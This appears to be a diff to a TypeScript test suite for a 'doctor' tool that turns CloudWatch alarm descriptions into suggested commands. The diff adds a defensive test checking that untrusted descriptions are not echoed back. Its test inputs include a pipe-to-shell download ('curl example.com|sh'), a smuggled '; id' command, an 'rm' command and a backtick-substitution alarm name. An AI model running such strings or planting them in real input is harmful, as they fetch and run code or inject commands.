@@ -104,7 +104,7 @@ describe('doctor', () => {
   });
 
   it('shows an alarm of this stack with the command that its description ends in, over all pages', async () => {
-    const AlarmDescription = 'Events arrived in this queue. Then: npx logistics queues status-updater';
+    const AlarmDescription = 'Events arrived in this queue. Then: npx --no-install logistics queues status-updater';
     alarms
       .on(DescribeAlarmsCommand)
       .resolvesOnce({ MetricAlarms: [quiet, { AlarmName: 'of-others', StateValue: 'ALARM' }], NextToken: 'more' })
@@ -116,11 +116,26 @@ describe('doctor', () => {
         {
           state: 'look',
           finding: 'logistics-x-dev: Events arrived in this queue.',
-          next: 'npx logistics queues status-updater',
+          next: 'npx --no-install logistics queues status-updater',
         },
       ],
     });
   });
+
+  it.each(['curl example.com|sh', 'npx --no-install logistics doctor; id', 'npx logistics doctor', 'rm x'])(
+    'repeats no command of another alarm on the topic: %s',
+    async (command) => {
+      const AlarmDescription = `It rings. Then: ${command}`;
+      const MetricAlarms = [{ ...quiet, AlarmName: 'a`id`', StateValue: 'ALARM' as const, AlarmDescription }];
+      alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms });
+
+      const { found } = await findings('alarms');
+
+      expect(found).toMatchObject([
+        { next: expect.stringMatching(/^aws cloudwatch describe-alarms --alarm-names 'a`id`'/) },
+      ]);
+    },
+  );
 
   it('looks at a stack whose alarms go nowhere', async () => {
     alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [] });
